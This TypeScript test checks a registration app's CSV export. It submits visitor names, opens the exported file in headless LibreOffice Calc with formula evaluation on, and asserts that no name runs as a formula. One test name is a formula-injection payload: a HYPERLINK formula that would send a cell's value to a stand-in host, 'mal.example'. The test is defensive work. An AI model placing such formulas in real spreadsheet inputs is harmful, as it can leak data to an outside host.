import { execFileSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { adminCookie, startAdminTestApp } from "../support/admin-login";
import type { TestApp } from "../support/test-app";

const SOFFICE = "/usr/bin/soffice";

/** Names a visitor may type that a spreadsheet would run as formulas, and ordinary ones. */
const NAMES = [
  '=HYPERLINK("http://mal.example/?x="&A1;"Clique")',
  "+55 Maria Souza",
  "-Ana Clara-",
  "@SUM(1;2) João",
  "=1+1",
  "José D'Ávila",
  'Maria "Mãe" da Silva',
];

/** The cells of the first sheet, as LibreOffice read them: text shown, and any formula it would run. */
function readCells(fods: string): { text: string; formula: string | null }[][] {
  const decode = (s: string) =>
    s
      .replace(/<text:s(?: text:c="(\d+)")?\/>/g, (_, n) => " ".repeat(Number(n ?? 1)))
      .replace(/<text:tab\/>/g, "\t")
      .replace(/<[^>]+>/g, "")
      .replace(/&quot;/g, '"')
      .replace(/&apos;/g, "'")
      .replace(/&lt;/g, "<")
      .replace(/&gt;/g, ">")
      .replace(/&amp;/g, "&");
  const table = fods.slice(fods.indexOf("<table:table "), fods.indexOf("</table:table>"));
  return [...table.matchAll(/<table:table-row[^>]*>([\s\S]*?)<\/table:table-row>/g)].map((row) =>
    [...row[1].matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)].map((cell) => ({
      text: [...(cell[2] ?? "").matchAll(/<text:p>([\s\S]*?)<\/text:p>/g)].map((p) => decode(p[1])).join("\n"),
      formula: /table:formula="([^"]*)"/.exec(cell[1])?.[1] ?? null,
    })),
  );
}

describe("the CSV export opened in LibreOffice Calc", () => {
  let t: TestApp;
  let dir: string;
  beforeAll(async () => {
    if (!existsSync(SOFFICE))
      throw new Error(`${SOFFICE} não existe: instale libreoffice-calc-nogui (.ci/run instala)`);
    t = await startAdminTestApp("pglite");
    dir = mkdtempSync(join(tmpdir(), "caravana-lo-"));
  });
  afterAll(async () => {
    await t?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it("shows every name as typed, with nothing run as a formula, even with formula evaluation on", async () => {
    for (const [i, nome_completo] of NAMES.entries()) {
      const res = await t.app.inject({
        method: "POST",
        url: "/api/registrations",
        payload: { nome_completo, idade: 20, numero_responsavel: `9899100000${i}`, metodo_pagamento: "PIX" },
      });
      expect(res.statusCode, res.body).toBe(201);
    }
    const cookie = await adminCookie(t.app);
    const csv = await t.app.inject({ url: "/api/registrations/export.csv?sort=antigos", headers: { cookie } });
    expect(csv.statusCode).toBe(200);
    const file = join(dir, "inscricoes.csv");
    writeFileSync(file, csv.rawPayload);

    // As a coordinator opening it would: ';' and '"', UTF-8, pt-BR, and the worst case of
    // "Evaluate formulas" switched on (the 13th option).
    execFileSync(
      SOFFICE,
      [
        `-env:UserInstallation=${pathToFileURL(join(dir, "perfil")).href}`,
        "--headless",
        "--infilter=CSV:59,34,76,1,,1046,false,false,false,false,false,-1,true",
        "--convert-to",
        "fods",
        "--outdir",
        dir,
        file,
      ],
      { timeout: 120_000, stdio: "pipe" },
    );
    const rows = readCells(readFileSync(join(dir, "inscricoes.fods"), "utf8"));
    expect(rows[0][0].text).toBe("Nome completo");
    const names = rows.slice(1, 1 + NAMES.length).map((r) => r[0]);
    for (const cell of rows.flat()) expect(cell.formula).toBeNull();
    // Readable: no apostrophe in front; a formula-looking name only gains a leading space.
    expect(names.map((c) => c.text.replace(/^ /, ""))).toEqual(NAMES);
    for (const [i, cell] of names.entries()) {
      expect(cell.text).toBe(/^[=+\-@]/.test(NAMES[i]) ? ` ${NAMES[i]}` : NAMES[i]);
      expect(cell.text.startsWith("'")).toBe(false);
    }
  }, 180_000);
});
